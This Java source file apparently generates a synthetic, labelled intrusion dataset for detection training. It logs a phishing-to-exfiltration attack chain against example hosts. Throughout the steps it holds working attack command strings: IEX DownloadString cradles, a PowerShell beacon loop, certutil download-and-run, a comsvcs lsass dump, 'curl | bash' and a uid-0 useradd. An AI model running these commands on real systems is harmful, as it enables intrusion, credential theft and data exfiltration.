package dev.spoor.samples;

import static dev.spoor.samples.Times.at;

import dev.spoor.samples.ProxyLog.Request;
import dev.spoor.samples.SecurityEvents.Logon;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Random;

/** The intrusion: one method a step, in the order of the README's timeline; each plants the findings it causes. */
final class Story {
    private static final String PHISHING_HOST = "northgate-billing.example.org";
    private static final String PHISHING_ADDRESS = "203.0.113.45";
    static final String STAGE_HOST = "cdn-update.example.net";
    private static final String STAGE_ADDRESS = "198.51.100.23";
    private static final String CONTROL_HOST = "telemetry-sync.example.org";
    private static final String CONTROL_ADDRESS = "202.12.29.175";
    private static final String RELAY_HOST = "update-relay.example.org";
    private static final String RELAY_ADDRESS = "192.0.2.80";
    private static final String REMOTE_DESKTOP_CLIENT = "200.3.14.10";

    private static final String SYSTEM32 = "C:\\Windows\\System32\\";
    private static final String POWERSHELL = SYSTEM32 + "WindowsPowerShell\\v1.0\\powershell.exe";
    private static final String CMD = SYSTEM32 + "cmd.exe";
    static final String TOOL = "C:\\Users\\Public\\winupd.exe";
    private static final String ARCHIVE = "Statement_0317.zip";

    private static final String STAGE_URL = "http://" + STAGE_HOST + "/s/a1.txt";
    private static final String TOOL_URL = "http://" + STAGE_HOST + "/pkg/winupd.exe";
    private static final String CONTROL_URL = "https://" + CONTROL_HOST + "/beacon";
    private static final String BACKUP_URL = "http://" + RELAY_HOST + "/bk01.sh";
    private static final String RELAY_URL = "http://" + RELAY_HOST + "/fs01.txt";

    private static final String STAGE_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('" + STAGE_URL + "')";
    private static final String RELAY_SCRIPT = "IEX (New-Object Net.WebClient).DownloadString('" + RELAY_URL + "')";
    private static final String CONTROL_SCRIPT = """
        $u=[Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))
        $w=New-Object Net.WebClient
        $w.Headers.Add('X-Host',$env:COMPUTERNAME)
        while($true){$w.DownloadString($u)|IEX;Start-Sleep -Seconds 90}
        """.formatted(Payloads.base64(CONTROL_URL, StandardCharsets.UTF_8));

    private final Random random = new Random(317);
    private final Network network;
    private final Expected expected;
    private final Host ws014;
    private final Host fs01;
    private final Host dc01;
    private final Desk nora;
    private final Session admin = Network.domainSession("adm.keller", 1203, 0x1c9e04f, 0, "High");

    Story(Network network, Expected expected) {
        this.network = network;
        this.expected = expected;
        this.ws014 = network.ws014.host;
        this.fs01 = network.fs01.host;
        this.dc01 = network.dc01.host;
        this.nora = network.nora;
    }

    void tell() {
        guessRemoteDesktopPassword();
        downloadArchive();
        Proc stage = openDocument();
        Proc control = unpackSecondStage(stage);
        keepInTouch(control);
        Proc tool = downloadTool(control);
        runViewerFromArchive();
        Proc elevated = elevate(tool);
        createTask(elevated);
        dumpCredentials(elevated);
        guessAdminPassword();
        createUserRemotely(elevated);
        Proc service = installService();
        collectAndExfiltrate(service);
        takeBackupServer(service);
        returnByRemoteDesktop();
    }

    /** At night: an outsider guesses the password of a forgotten local administrator of the file server. */
    private void guessRemoteDesktopPassword() {
        Session scanadmin = localSession("scanadmin", 1004, 0x3d81b2, 2);
        Instant time = at("03:47:05.2281190");
        Instant first = time;
        Logon failing = Logon.network(REMOTE_DESKTOP_CLIENT, "WIN-7Q2KD", "NTLM");
        for (int i = 0; i < 14; i++) {
            String subStatus = SecurityEvents.BAD_PASSWORD;
            fs01.log(SecurityEvents.logonFailed(time, fs01, fs01.name(), scanadmin.user(), failing, subStatus));
            time = time.plusMillis(38_000 + random.nextInt(41_000));
        }
        Logon success = Logon.remoteDesktop(REMOTE_DESKTOP_CLIENT, fs01);
        logOnPrivileged(time, fs01, scanadmin, success);
        network.fs01.startDesktop(time, scanadmin);
        fs01.log(SecurityEvents.loggedOff(time.plusSeconds(251), fs01, scanadmin, 10));
        expected.plant("rdp-guessed", "failed-then-successful logon", first)
                .host(fs01)
                .account(scanadmin.user())
                .address(REMOTE_DESKTOP_CLIENT)
                .technique("T1110");
    }

    /** Nora follows the link of a mail and saves a zip archive. */
    private void downloadArchive() {
        Instant time = at("08:38:55.6074410");
        String url = "https://" + PHISHING_HOST + "/" + ARCHIVE;
        String browser = nora.edge.image();
        Proc tab = ws014.start(time, nora.outlook, browser, '"' + browser + "\" --single-argument " + url);
        ws014.resolve(time.plusMillis(912), tab, PHISHING_HOST, PHISHING_ADDRESS);
        ws014.connect(time.plusMillis(1_003), tab, PHISHING_ADDRESS, 443);
        Request request = Request.get(url, PHISHING_ADDRESS, 812_334, "application/zip", ProxyLog.EDGE);
        browse(time.plusMillis(1_120), ws014, nora.session, request);
        ws014.createFile(at("08:39:20.4412070"), tab, nora.home() + "\\Downloads\\" + ARCHIVE);
        ws014.createFile(at("08:39:41.0091330"), nora.explorer, unpacked("Statement_0317.docm"));
        ws014.createFile(at("08:39:41.0253710"), nora.explorer, unpacked("SecureViewer.exe"));
    }

    /** Where Explorer unpacks what is opened inside an archive. */
    private String unpacked(String file) {
        return nora.home() + "\\AppData\\Local\\Temp\\Temp1_" + ARCHIVE + "\\" + file;
    }

    /** The document's macro starts a shell, and the shell an encoded PowerShell. */
    private Proc openDocument() {
        String word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
        String open = '"' + word + "\" /n \"" + unpacked("Statement_0317.docm") + "\" /o \"\"";
        Proc document = ws014.start(at("08:39:44.3140980"), nora.explorer, word, open);
        String encoded = Payloads.encoded(STAGE_SCRIPT);
        Instant shellTime = at("08:40:31.2184130");
        Proc shell = ws014.start(shellTime, document, CMD, "cmd.exe /c " + encoded);
        startConsole(shellTime, ws014, shell);
        Instant time = at("08:40:31.5920460");
        Proc stage = ws014.start(time, shell, POWERSHELL, encoded);
        fetch(time.plusMillis(1_730), ws014, stage, STAGE_HOST, STAGE_ADDRESS, 80);
        browse(time.plusMillis(1_904), ws014, nora.session, script(STAGE_URL, STAGE_ADDRESS, 2_214));
        expected.plant("office-shell", "Office, browser or service parent of a shell", shellTime)
                .host(ws014)
                .account(nora.session.user())
                .name("WINWORD.EXE")
                .technique("T1204.002");
        expected.plant("encoded-stage", "encoded or hidden PowerShell", time)
                .host(ws014)
                .account(nora.session.user())
                .decoded(STAGE_SCRIPT)
                .url(STAGE_URL)
                .technique("T1059.001");
        expected.plant("ti-domain", "local TI hit", time.plusMillis(1_730))
                .host(ws014)
                .domain(STAGE_HOST);
        return stage;
    }

    /** What was downloaded is a further command: base64 of gzip of a script that holds an address in base64. */
    private Proc unpackSecondStage(Proc stage) {
        Instant time = at("08:40:36.8849150");
        Proc control = ws014.start(time, stage, POWERSHELL, Payloads.compressed(CONTROL_SCRIPT));
        expected.plant("nested-stage", "encoded or hidden PowerShell", time)
                .host(ws014)
                .account(nora.session.user())
                .decoded("$w.Headers.Add('X-Host',$env:COMPUTERNAME)")
                .decoded(CONTROL_URL)
                .domain(CONTROL_HOST)
                .technique("T1059.001");
        return control;
    }

    private void keepInTouch(Proc control) {
        Instant end = at("13:05:00");
        for (Instant time = at("08:40:38.1170360");
                time.isBefore(end);
                time = time.plusMillis(86_000 + random.nextInt(9_000))) {
            if (random.nextInt(8) == 0) {
                ws014.resolve(time.minusMillis(40), control, CONTROL_HOST, CONTROL_ADDRESS);
            }
            ws014.connect(time, control, CONTROL_ADDRESS, 443);
            browse(
                    time.plusMillis(60),
                    ws014,
                    nora.session,
                    script(CONTROL_URL, CONTROL_ADDRESS, 96 + random.nextInt(64)));
        }
    }

    /** certutil downloads an executable into a folder that everybody may write to, and it is run. */
    private Proc downloadTool(Proc control) {
        Instant time = at("08:52:10.7310580");
        String download = "certutil.exe -urlcache -split -f " + TOOL_URL + " " + TOOL;
        Proc shell = ws014.start(time, control, CMD, "cmd.exe /c " + download + " && " + TOOL);
        startConsole(time, ws014, shell);
        Proc certutil = ws014.start(time.plusMillis(214), shell, SYSTEM32 + "certutil.exe", download);
        fetch(time.plusMillis(655), ws014, certutil, STAGE_HOST, STAGE_ADDRESS, 80);
        Request request = new Request(
                "GET",
                TOOL_URL,
                STAGE_ADDRESS,
                200,
                446_976,
                214,
                1_380,
                "application/octet-stream",
                "CertUtil URL Agent");
        browse(time.plusMillis(770), ws014, nora.session, request);
        ws014.createFile(time.plusMillis(2_190), certutil, TOOL);
        ws014.exit(time.plusMillis(2_260), certutil);
        Proc tool = ws014.start(time.plusMillis(2_391), shell, TOOL, TOOL);
        expected.plant("download-and-run", "download-and-run", time)
                .host(ws014)
                .account(nora.session.user())
                .name(TOOL)
                .url(TOOL_URL)
                .technique("T1105");
        expected.plant("ti-hash", "local TI hit", time.plusMillis(2_391))
                .host(ws014)
                .hash(Program.sha256(TOOL).toLowerCase(Locale.ROOT));
        return tool;
    }

    /** The document told Nora to install the viewer that came in the same archive. */
    private void runViewerFromArchive() {
        Instant time = at("08:58:02.1655720");
        String viewer = unpacked("SecureViewer.exe");
        Proc proc = ws014.start(time, nora.explorer, viewer, '"' + viewer + "\" ");
        String run = "HKU\\" + nora.session.sid() + "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\SecureViewer";
        ws014.setRegistry(time.plusMillis(880), proc, run, TOOL + " /bg");
        ws014.exit(time.plusMillis(9_412), proc);
        expected.plant("archive-executed", "archive dropped then executed", at("08:39:20.4412070"))
                .host(ws014)
                .name(ARCHIVE)
                .name("SecureViewer.exe")
                .technique("T1204.002");
    }

    /** The tool asks for elevation; Nora, a local administrator, agrees. */
    private Proc elevate(Proc tool) {
        Instant time = at("09:03:18.9047710");
        Windows windows = network.ws014;
        String arguments = windows.appInfo.pid() + " 318 000001F3A94C2E50";
        Proc consent = ws014.start(time, windows.appInfo, SYSTEM32 + "consent.exe", "consent.exe " + arguments);
        ws014.exit(time.plusMillis(4_108), consent);
        return ws014.start(time.plusMillis(4_190), tool, nora.session.elevated(), TOOL, '"' + TOOL + "\" /bg");
    }

    private void createTask(Proc tool) {
        Instant time = at("09:06:40.0533270");
        String name = "Larkmoor Sync Helper";
        String command = "schtasks.exe /create /tn \"" + name + "\" /tr \"" + TOOL + " /bg\" /sc onlogon /f";
        Proc schtasks = ws014.start(time, tool, SYSTEM32 + "schtasks.exe", command);
        Instant created = time.plusMillis(187);
        ws014.log(SecurityEvents.taskCreated(created, ws014, tool.session(), "\\" + name, TOOL, "/bg"));
        ws014.createFile(created.plusMillis(3), network.ws014.schedule, "C:\\Windows\\System32\\Tasks\\" + name);
        ws014.exit(time.plusMillis(240), schtasks);
        expected.plant("new-task", "new service, task or user", time)
                .host(ws014)
                .account(nora.session.user())
                .name(name)
                .technique("T1053.005");
    }

    private void dumpCredentials(Proc tool) {
        Instant time = at("09:14:25.3381640");
        Proc lsass = network.ws014.lsass;
        String dump = "C:\\Users\\Public\\w.dmp";
        String command =
                "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump " + lsass.pid() + " " + dump + " full";
        Proc rundll = ws014.start(time, tool, SYSTEM32 + "rundll32.exe", command);
        ws014.loadImage(time.plusMillis(96), rundll, SYSTEM32 + "comsvcs.dll");
        String trace = "C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
                + "C:\\Windows\\System32\\comsvcs.dll+25b6a|C:\\Windows\\System32\\rundll32.exe+3aef";
        ws014.access(time.plusMillis(143), rundll, lsass, "0x1410", trace);
        ws014.createFile(time.plusMillis(171), rundll, dump);
        ws014.exit(time.plusMillis(1_930), rundll);
        expected.plant("credential-dump", "credential dumping", time)
                .host(ws014)
                .account(nora.session.user())
                .name("comsvcs.dll")
                .technique("T1003.001");
    }

    /** From Nora's computer: guesses at an administrator's password on the domain controller, the last one right. */
    private void guessAdminPassword() {
        Instant time = at("09:31:12.7719030");
        Instant first = time;
        Logon logon = Logon.network(ws014.address(), ws014.name(), "NTLM");
        for (int i = 0; i < 11; i++) {
            String subStatus = SecurityEvents.BAD_PASSWORD;
            dc01.log(SecurityEvents.logonFailed(time, dc01, Network.DOMAIN, admin.user(), logon, subStatus));
            time = time.plusMillis(21_000 + random.nextInt(15_000));
        }
        logOnPrivileged(time, dc01, admin, logon);
        dc01.log(SecurityEvents.loggedOff(time.plusMillis(11_840), dc01, admin, 3));
        expected.plant("admin-guessed", "failed-then-successful logon", first)
                .host(dc01)
                .account(admin.user())
                .address(ws014.address())
                .technique("T1110");
    }

    /** With the administrator's account, through WMI, on to the file server: a new local administrator there. */
    private void createUserRemotely(Proc tool) {
        Instant time = at("09:44:12.4602280");
        String user = "lm_support";
        String command = "net1 user " + user + " Winter-2026! /add & net1 localgroup Administrators " + user + " /add";
        String wmic = "wmic.exe /node:" + fs01.name() + " /user:" + admin.account()
                + " process call create \"cmd.exe /c " + command + "\"";
        Proc client = ws014.start(time, tool, SYSTEM32 + "wbem\\WMIC.exe", wmic);
        ws014.connect(time.plusMillis(402), client, fs01.address(), 135);
        Session session = Network.domainSession(admin.user(), 1203, 0x52e711c, 0, "High");
        logOnPrivileged(time.plusMillis(530), fs01, session, Logon.network(ws014.address(), ws014.name(), "NTLM"));
        Proc provider = fs01.start(
                time.plusMillis(660),
                network.fs01.dcomLaunch,
                network.fs01.networkService,
                SYSTEM32 + "wbem\\WmiPrvSE.exe",
                "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding");
        Proc shell = fs01.start(time.plusMillis(871), provider, session, CMD, "cmd.exe /c " + command);
        Instant created = time.plusMillis(1_002);
        String sid = localSid(1007);
        fs01.start(created, shell, SYSTEM32 + "net1.exe", "net1 user " + user + " Winter-2026! /add");
        fs01.log(SecurityEvents.userCreated(created.plusMillis(54), fs01, session, user, sid));
        fs01.start(
                created.plusMillis(190),
                shell,
                SYSTEM32 + "net1.exe",
                "net1 localgroup Administrators " + user + " /add");
        fs01.log(SecurityEvents.addedToAdministrators(created.plusMillis(233), fs01, session, sid));
        ws014.exit(created.plusMillis(640), client);
        expected.plant("new-user", "new service, task or user", created)
                .host(fs01)
                .account(user)
                .account(admin.user())
                .technique("T1136.001");
    }

    /** A service on the file server whose command is a hidden PowerShell. */
    private Proc installService() {
        Instant time = at("10:02:17.1886940");
        Session session = Network.domainSession(admin.user(), 1203, 0x5470aa8, 0, "High");
        logOnPrivileged(time.minusMillis(420), fs01, session, Logon.network(ws014.address(), ws014.name(), "NTLM"));
        String service = "LarkUpdSvc";
        String encoded = Payloads.encoded(RELAY_SCRIPT);
        String command = "C:\\Windows\\System32\\cmd.exe /b /c start /b /min " + encoded;
        fs01.log(SecurityEvents.serviceInstalled(time, fs01, session, service, command));
        fs01.log(SecurityEvents.serviceInstalledSystem(time.plusMillis(4), fs01, service, command));
        String key = "HKLM\\System\\CurrentControlSet\\Services\\" + service + "\\ImagePath";
        fs01.setRegistry(time.plusMillis(2), network.fs01.services, key, command);
        Proc shell = fs01.start(time.plusMillis(1_355), network.fs01.services, CMD, command);
        Proc powershell = fs01.start(time.plusMillis(1_498), shell, POWERSHELL, encoded);
        fs01.exit(time.plusMillis(1_560), shell);
        fetch(time.plusMillis(3_120), fs01, powershell, RELAY_HOST, RELAY_ADDRESS, 80);
        browse(time.plusMillis(3_290), fs01, network.fs01.system, script(RELAY_URL, RELAY_ADDRESS, 3_870));
        expected.plant("new-service", "new service, task or user", time)
                .host(fs01)
                .account(admin.user())
                .name(service)
                .technique("T1543.003");
        expected.plant("service-shell", "Office, browser or service parent of a shell", time.plusMillis(1_355))
                .host(fs01)
                .name("services.exe");
        expected.plant("encoded-service", "encoded or hidden PowerShell", time.plusMillis(1_498))
                .host(fs01)
                .decoded(RELAY_SCRIPT)
                .url(RELAY_URL)
                .technique("T1059.001");
        return powershell;
    }

    /** The engineering share is packed and leaves through the proxy in pieces. No planted finding rests on it. */
    private void collectAndExfiltrate(Proc powershell) {
        Instant time = at("10:20:44.9100820");
        String rar = "C:\\ProgramData\\rar.exe";
        String command = "rar.exe a -r -v80m C:\\ProgramData\\f.rar D:\\Shares\\Engineering";
        Proc packer = fs01.start(time, powershell, rar, command);
        fs01.exit(time.plusSeconds(611), packer);
        String host = "drop." + CONTROL_HOST;
        Instant upload = at("10:41:03.3321470");
        for (int part = 1; part <= 6; part++) {
            fs01.createFile(time.plusSeconds(95L * part), packer, "C:\\ProgramData\\f.part" + part + ".rar");
            fetch(upload, fs01, powershell, host, CONTROL_ADDRESS, 443);
            Request request = new Request(
                    "PUT",
                    "https://" + host + "/u/" + part,
                    CONTROL_ADDRESS,
                    201,
                    187,
                    83_886_080 - random.nextInt(4_096),
                    241_000,
                    "text/plain",
                    "-");
            browse(upload.plusMillis(310), fs01, network.fs01.system, request);
            upload = upload.plusMillis(290_000 + random.nextInt(40_000));
        }
    }

    /**
     * From the file server on to the backup server, which runs Linux: the password of the account that copies the shares is guessed over
     * ssh, and what follows in that session needs root.
     */
    private void takeBackupServer(Proc powershell) {
        LinuxHost bk01 = network.bk01;
        String user = "svc-backup";
        String from = fs01.address();
        Instant time = at("11:18:04.3300000");
        Proc ssh = fs01.start(
                time.minusMillis(900),
                powershell,
                SYSTEM32 + "OpenSSH\\ssh.exe",
                "ssh.exe -o StrictHostKeyChecking=no " + user + "@" + bk01.address());
        fs01.connect(time.minusMillis(310), ssh, bk01.address(), 22);
        for (int attempt = 0; attempt < 9; attempt++) {
            bk01.refuse(time.plusSeconds(7L * attempt), bk01.nextPid(), user, from, 50_310 + attempt);
        }
        Instant in = time.plusSeconds(71);
        int session = bk01.nextPid();
        bk01.accept(in, session, "password", user, 1_002, from, 50_331);
        expected.plant("ssh-guessed", "failed-then-successful logon", time)
                .host(bk01)
                .account(user)
                .address(from)
                .technique("T1110");
        String fetch = "curl -fsS " + BACKUP_URL + " | bash";
        Instant fetched = in.plusSeconds(44);
        bk01.execute(in.plusSeconds(20), bk01.nextPid(), session, 1_002, 1_002, "/home/svc-backup", List.of("/usr/bin/id"));
        bk01.sudo(fetched, user, 1_002, "/home/svc-backup", "/bin/bash -c " + fetch, List.of("/bin/bash", "-c", fetch));
        browse(fetched.plusMillis(700), bk01.address(), script(BACKUP_URL, RELAY_ADDRESS, 2_114));
        expected.plant("linux-fetch", "download-and-run", fetched)
                .host(bk01)
                .url(BACKUP_URL)
                .technique("T1105");
        Instant added = fetched.plusSeconds(63);
        String second = "bkadm";
        bk01.sudo(
                added,
                user,
                1_002,
                "/home/svc-backup",
                "/usr/sbin/useradd -o -u 0 -g 0 -M -s /bin/bash " + second,
                List.of("/usr/sbin/useradd", "-o", "-u", "0", "-g", "0", "-M", "-s", "/bin/bash", second));
        bk01.userAdded(added.plusMillis(60), second, 0, "/home/bkadm", "/bin/bash");
        expected.plant("linux-root", "new service, task or user", added)
                .host(bk01)
                .account(second)
                .technique("T1136.001");
        bk01.close(added.plusSeconds(420), session, user, 1_002);
        expected.plant("linux-session", "suspicious session", in)
                .host(bk01)
                .account(user)
                .address(from);
        fs01.exit(added.plusSeconds(421), ssh);
    }

    private void returnByRemoteDesktop() {
        Instant time = at("12:15:37.0429860");
        Session session = localSession("lm_support", 1007, 0x611f09a, 3);
        logOnPrivileged(time, fs01, session, Logon.remoteDesktop(REMOTE_DESKTOP_CLIENT, fs01));
        network.fs01.startDesktop(time, session);
        fs01.log(SecurityEvents.loggedOff(time.plusSeconds(1_904), fs01, session, 10));
    }

    private static void logOnPrivileged(Instant time, Host host, Session session, Logon logon) {
        host.log(SecurityEvents.loggedOn(time, host, session, logon));
        host.log(SecurityEvents.specialPrivileges(time.plusNanos(100), host, session));
    }

    private static void startConsole(Instant time, Host host, Proc shell) {
        String image = SYSTEM32 + "conhost.exe";
        host.start(time.plusMillis(18), shell, image, "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1");
    }

    private static void fetch(Instant time, Host host, Proc proc, String name, String address, int port) {
        host.resolve(time, proc, name, address);
        host.connect(time.plusMillis(47), proc, address, port);
    }

    private static Request script(String url, String address, long bytes) {
        return Request.get(url, address, bytes, "text/plain", "-");
    }

    private void browse(Instant time, String client, Request request) {
        network.proxy.add(time, client, "-", request);
    }

    private void browse(Instant time, Host host, Session session, Request request) {
        network.proxy.add(time, host.address(), session.terminal() == 0 ? "-" : session.account(), request);
    }

    private Session localSession(String user, int rid, long logonId, int terminal) {
        return new Session(fs01.name(), user, localSid(rid), logonId, terminal, "High");
    }

    private static String localSid(int rid) {
        return "S-1-5-21-3019447265-918827364-1470285935-" + rid;
    }
}
